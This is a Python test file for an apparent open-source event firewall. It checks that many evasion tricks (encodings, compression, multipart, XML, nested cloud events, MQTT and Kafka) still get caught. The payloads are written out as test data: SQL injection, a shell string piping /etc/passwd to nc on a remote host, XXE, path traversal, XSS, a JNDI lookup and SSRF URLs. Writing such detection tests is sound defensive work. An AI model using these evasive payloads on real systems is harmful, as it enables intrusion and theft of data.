# eventwall - the event firewall
# Copyright (c) 2026 the eventwall authors
# SPDX-License-Identifier: Apache-2.0

"""Ways to hide an attack from who reads less than the function behind, class by class: each is found by a signature that
ships, or refused as an exception where its readers would not agree.  How bytes are framed (requests within requests, packets
in pieces, records in batches) is tested where they are read: tests/unit/test_http1*, test_mqtt*, and tests/net."""

import base64
import gzip
import json
import os
import sys
import urllib.parse
import zlib

SRCDIR = os.environ.get("EW_SRCDIR", ".")
sys.path.insert(0, os.path.join(SRCDIR, "tests"))
import corpus  # noqa: E402
import wrap  # noqa: E402

SQL = "' or 1=1 union select login, secret from users -- "
SHELL = "; cat /etc/passwd | nc 203.0.113.9 4444"
JSON = json.dumps({"note": SQL})
FOUND, EITHER = "found by a signature", "found or refused"

count = failed = 0


def ok(good, name, note=""):
    global count, failed
    count += 1
    failed += not good
    print("%sok %d - %s" % ("" if good else "not ", count, name))
    if not good and note:
        print("#", note)


def b64(data):
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def http(body, content_type=None, **more):
    return wrap.event("http", body, content_type, **more)


def raw_deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def percent(text, times=1):
    """Every byte, so many times."""
    for _ in range(times):
        text = "".join("%%%02x" % b for b in text.encode())
    return text


def wide(text):
    return "".join(chr(ord(c) + 0xfee0) if "!" <= c <= "~" else c for c in text)


def multipart(head, data, boundary="B", end="\r\n", close="--"):
    return ("--%s%s%s%s%s%s%s--%s%s%s" % (boundary, end, head, end, end, data, end, boundary, close, end))


def form_part(data, name="a", more=""):
    return multipart('Content-Disposition: form-data; name="%s"%s' % (name, more), data)


TYPE = "multipart/form-data; boundary=B"
DEEP = "[" * 700 + JSON + "]" * 700
GRAPHQL = 'query { user(name: "%s") { id } }' % SQL
SNS = json.dumps({"Records": [{"EventSource": "aws:sns", "Sns": {"Message": JSON}}]})
SQS = json.dumps({"Records": [{"eventSource": "aws:sqs", "body": SNS}]})


def msgpack_text(text):
    data = text.encode()
    return b"\x81\xa1a\xd9" + bytes([len(data)]) + data


def cbor_chunks(text):
    data = text.encode()
    return b"\xa1\x61a\x7f" + b"".join(bytes([0x60 + len(data[i:i + 5])]) + data[i:i + 5]
                                      for i in range(0, len(data), 5)) + b"\xff"


def protobuf(text):
    data = text.encode()
    inner = b"\x0a" + bytes([len(data)]) + data
    return b"\x12" + bytes([len(inner)]) + inner


CLASSES = [
    ("JSON with a name twice", FOUND, [
        http('{"a": %s, "a": "x"}' % json.dumps(SQL)), http('{"a": "x", "a": %s}' % json.dumps(SQL)),
        http('{"a": "x", "\\u0061": %s}' % json.dumps(SQL))]),
    ("escapes in JSON", FOUND, [
        http('{"a": "%s"}' % "".join("\\u%04x" % ord(c) for c in SQL)),
        http('{"%s": 1}' % "".join("\\u%04x" % ord(c) for c in SQL)),
        http('{"a": "\\ud800%s"}' % SQL)]),
    ("charsets of JSON", EITHER, [
        http(b"\xef\xbb\xbf" + JSON.encode()), http(JSON.encode("utf-16")), http(JSON.encode("utf-16-le")),
        http(JSON.encode("utf-16-be")), http(JSON.encode("utf-32")), http(JSON.encode("utf-32-be")),
        http(JSON.encode("utf-7"), "application/json; charset=utf-7"),
        http(JSON.encode("cp037"), "application/json; charset=ibm037")]),
    ("NUL and controls in JSON", EITHER, [
        http(b'{"a": "' + SQL.replace("union", "un\0ion").encode() + b'"}'),
        http('{"a": "%s"}' % SQL.replace("or", "o\\u0000r")), http(b'{"a\0": ' + json.dumps(SQL).encode() + b"}"),
        http(b'\0{"a": ' + json.dumps(SQL).encode() + b"}")]),
    ("dialects of JSON", FOUND, [
        http('{/* x */ "a": %s, }' % json.dumps(SQL)), http("{'a': \"%s\"}" % SQL), http("{a: %s}" % json.dumps(SQL)),
        http('{"n": NaN, "a": %s}' % json.dumps(SQL)), http('{"n": 0x1f, "a": %s}' % json.dumps(SQL)),
        http('{"x": 1}\n%s\n' % JSON), http("{} %s" % JSON), http("\x1e%s\n" % JSON)]),
    ("numbers of JSON", FOUND, [
        http('{"n": 1E400, "m": -0, "a": %s}' % json.dumps(SQL)), http('{"n": %s, "a": %s}' % ("9" * 400, json.dumps(SQL)))]),
    ("size of JSON", EITHER, [http(DEEP), http(json.dumps(dict({"k%d" % i: i for i in range(30000)}, z=SQL)))]),
    ("JSON within something", FOUND, [
        http(json.dumps({"a": JSON})), http(json.dumps({"a": json.dumps({"b": JSON})})),
        http("data=" + urllib.parse.quote(JSON), "application/x-www-form-urlencoded"),
        http("", path="/x?q=" + urllib.parse.quote(JSON)), http("", headers={"cookie": "c=" + urllib.parse.quote(JSON)}),
        http("", headers={"x-context": JSON})]),
    ("base64", FOUND, [
        http(json.dumps({"a": x})) for x in (
            b64(SQL), b64(SQL).rstrip("="), base64.urlsafe_b64encode((SQL + "???>>>").encode()).decode(),
            "\r\n".join(b64(SQL)[i:i + 20] for i in range(0, 100, 20)), b64(b64(SQL)), b64(b64(b64(SQL))),
            "data:text/plain;base64," + b64(SQL), " ".join(b64(SQL)[i:i + 4] for i in range(0, 100, 4)),
            "eyJhbGciOiJIUzI1NiJ9.%s.c2ln" % base64.urlsafe_b64encode(json.dumps({"sub": SQL}).encode()).decode().rstrip("="),
            base64.b32encode(SQL.encode()).decode())]),
    ("escapes of text", FOUND, [
        http(json.dumps({"a": x})) for x in (
            SQL.encode().hex(), "0x" + SQL.encode().hex(), percent(SQL), percent(SQL, 2), percent(SQL, 3),
            urllib.parse.quote_plus(SQL), "".join("%%u%04x" % ord(c) for c in SQL), "".join("&#%d;" % ord(c) for c in SQL),
            "".join("&#x%x;" % ord(c) for c in SQL), "".join("\\x%02x" % ord(c) for c in SQL),
            "".join("\\%03o" % ord(c) for c in SQL))]),
    ("compression", FOUND, [
        http(gzip.compress(JSON.encode())), http(zlib.compress(JSON.encode())), http(gzip.compress(gzip.compress(JSON.encode()))),
        http(gzip.compress(b'{"x": 1}\n') + gzip.compress(JSON.encode())),
        http(gzip.compress(JSON.encode()), headers={"content-encoding": "gzip"}),
        http(raw_deflate(JSON.encode()), headers={"content-encoding": "deflate"}),
        http(json.dumps({"a": b64(gzip.compress(JSON.encode()))})), http(json.dumps({"a": b64(raw_deflate(JSON.encode()))})),
        http(form_part(b64(gzip.compress(SQL.encode()))), TYPE)]),
    ("content types", FOUND, [
        http(JSON), http(JSON, "text/plain"), http(JSON, "application/jsn"), http(JSON, "application/vnd.acme.v1+json"),
        http(JSON, "application/octet-stream"), http(JSON, "application/x-www-form-urlencoded"), http(JSON, "text/xml"),
        http(JSON, "application/json; charset=utf-8; x=\"y;z\""), http("a=" + urllib.parse.quote(SQL), "application/json")]),
    ("charsets of text", EITHER, [
        http(json.dumps({"a": "..%c0%af..%c0%af..%c0%afetc/passwd"})), http(b'{"a": "..\xc0\xaf..\xc0\xaf..\xc0\xafetc/passwd"}'),
        http(json.dumps({"a": wide(SQL)}, ensure_ascii=False)), http(json.dumps({"a": wide("<script>alert(1)</script>")})),
        http("a=" + urllib.parse.quote(SQL.encode("utf-16-le")) + "&_charset_=utf-16le", "application/x-www-form-urlencoded")]),
    ("multipart", EITHER, [
        http(form_part(SQL), TYPE), http(form_part("x", more="; filename*=UTF-8''%s" % urllib.parse.quote(SHELL)), TYPE),
        http(form_part("x", more='; filename="%s"' % SHELL), TYPE), http(form_part(SQL), 'multipart/form-data; boundary="B"'),
        http(form_part(SQL), "multipart/form-data; boundary=X; boundary=B"),
        http(form_part(SQL), "multipart/form-data; boundary*0=B"), http(form_part(SQL).replace("\r\n", "\n"), TYPE),
        http("preamble %s\r\n" % SQL + form_part("x"), TYPE), http(form_part(SQL)[:-7], TYPE),
        http(form_part(SQL, name="a\0b"), TYPE),
        http(multipart('Content-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: base64', b64(SQL)), TYPE),
        http(multipart('Content-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: quoted-printable',
                       "".join("=%02X" % b for b in SQL.encode())), TYPE),
        http(multipart("Content-Type: multipart/mixed; boundary=C", form_part(SQL).replace("--B", "--C")), TYPE)]),
    ("XML", EITHER, [
        http("<a><b>%s</b></a>" % SQL.replace("'", "&apos;"), "text/xml"), http("<a b=\"%s\"/>" % SQL, "text/xml"),
        http("<a>%s</a>" % SQL.replace("union", "un<!-- x -->ion"), "text/xml"), http("<a><![CDATA[%s]]></a>" % SQL, "text/xml"),
        http("<a>' or 1=<![CDATA[1 union]]> select login from users -- </a>", "text/xml"),
        http('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "text/xml"),
        http('<!DOCTYPE a [<!ENTITY x "%s">]><a>&x;</a>' % SQL, "text/xml"), http("<n:a xmlns:n='u:x'><n:b>%s</n:b></n:a>" % SQL)]),
    ("path and query", FOUND, [
        http("", path=p) for p in (
            "/a/..%2f..%2f..%2fetc%2fpasswd", "/a/..;/..;/..;/etc/passwd", "/a/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "/a/..\\..\\..\\windows\\win.ini", "/x?a=1&a=" + urllib.parse.quote(SQL), "/x?a[]=" + urllib.parse.quote(SQL),
            "/x?a=1;b=" + urllib.parse.quote(SQL), "/x?" + urllib.parse.quote(SQL))] + [
        http("a=" + urllib.parse.quote(SQL), "application/x-www-form-urlencoded", method="GET"),
        http("a=1;b=" + urllib.parse.quote(SQL), "application/x-www-form-urlencoded")]),
    ("spelling of payloads", FOUND, [
        http(json.dumps({"a": x})) for x in (
            "1'/**/uNiOn/**/sElEcT/**/login/**/fRoM/**/users--", "1'%0aunion%0aselect%0a1,2--", "1' /*!50000union*/ select 1,2-- ",
            ";c''at${IFS}/etc/pas?wd", ";c\\at /etc/passwd", "$(c$@at /etc/passwd)", ";{cat,/etc/passwd}",
            "<ScRiPt\n>alert(1)</sCrIpT>", "<svg/onload=alert(1)>", "jav\tascript:alert(1)//\"><a href=\"jav\tascript:alert(1)\">",
            "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}", "{{''['__cla'+'ss__']}}", "http://0251.0376.0251.0376/latest/")]),
    ("GraphQL", FOUND, [
        http(json.dumps({"query": GRAPHQL})), http(json.dumps([{"query": "{a}"}, {"query": GRAPHQL}])),
        http(json.dumps({"query": "query($n: String) { user(name: $n) { id } }", "variables": {"n": SQL}})),
        http(json.dumps({"query": 'query { user(name: """%s""") { id } }' % SQL})), http(GRAPHQL, "application/graphql"),
        http(json.dumps({"query": "query { %s }" % " ".join("a%d: user { id }" % i for i in range(200))}))]),
    ("binary formats", FOUND, [
        http(msgpack_text(SQL)), http(cbor_chunks(SQL)), http(protobuf(SQL)), http(protobuf(b64(SQL)), "application/x-protobuf"),
        http(b"\0" + len(protobuf(SQL)).to_bytes(4, "big") + protobuf(SQL), "application/grpc"),
        http(b"\0\0\0\0\7" + b"\2" + bytes([2 * len(SQL)]) + SQL.encode()),
        http(bytes(range(0x80, 0xc0)) + SQL.encode() + bytes(range(0x80, 0xc0)), "application/octet-stream")]),
    ("events within events", FOUND, [
        http(SQS), http(json.dumps({"Records": [{"kinesis": {"data": b64(JSON)}}]})),
        http(json.dumps({"specversion": "1.0", "id": "1", "source": "/x", "type": "t", "data_base64": b64(JSON)}),
             "application/cloudevents+json"),
        http("{}", headers={"ce-specversion": "1.0", "ce-id": "1", "ce-source": "/x", "ce-type": "t",
                            "ce-subject": urllib.parse.quote(SQL)}),
        http(json.dumps({"records": {"t-0": [{"value": b64(JSON), "headers": [{"h": list(SQL.encode())}]}]}})),
        http(json.dumps({"version": "2.0", "routeKey": "$default", "isBase64Encoded": False, "body": b64(JSON)})),
        http(json.dumps({"version": "2.0", "routeKey": "$default", "isBase64Encoded": True, "body": JSON})),
        http(json.dumps({"awslogs": {"data": b64(gzip.compress(json.dumps({"logEvents": [{"message": SQL}]}).encode()))}})),
        http(json.dumps({"message": {"data": b64(JSON), "messageId": "1"}, "subscription": "projects/p/subscriptions/s"})),
        http(json.dumps({"Records": [{"eventSource": "aws:s3", "s3": {"object": {
            "key": urllib.parse.quote_plus("x" + SHELL + ".png")}}}]}))]),
    ("places of a message of MQTT", FOUND, [
        wrap.event("mqtt", JSON), dict(wrap.event("mqtt", "{}"), topic="devices/1" + SHELL),
        wrap.event("mqtt", "{}", headers={"note": SQL}), wrap.event("mqtt", JSON, "image/png")]),
    ("places of a record of Kafka", FOUND, [
        wrap.event("kafka", JSON), wrap.event("kafka", "{}", key=SQL), wrap.event("kafka", "{}", headers={"note": SQL}),
        wrap.event("kafka", "", key=JSON)]),
    ("an attack behind filler", FOUND, [
        http(json.dumps({"pad": "lorem ipsum dolor " * n, "a": SQL})) for n in (500, 5000, 50000)] + [
        http(json.dumps({"a": "word " * 20000 + SQL}))]),
]

judge = corpus.Judge()
said = iter(judge.judge([e for _, _, events in CLASSES for e in events]))
for name, want, events in CLASSES:
    for i, e in enumerate(events):
        s = next(said)
        dropped = s["verdict"] == "drop"
        good = corpus.found(s) if want == FOUND else dropped
        ok(good, "%s, %d: %s" % (name, i + 1, want), "%s: %s" % (json.dumps(s)[:200], json.dumps(e)[:300]))

print("1..%d" % count)
sys.exit(failed > 0)
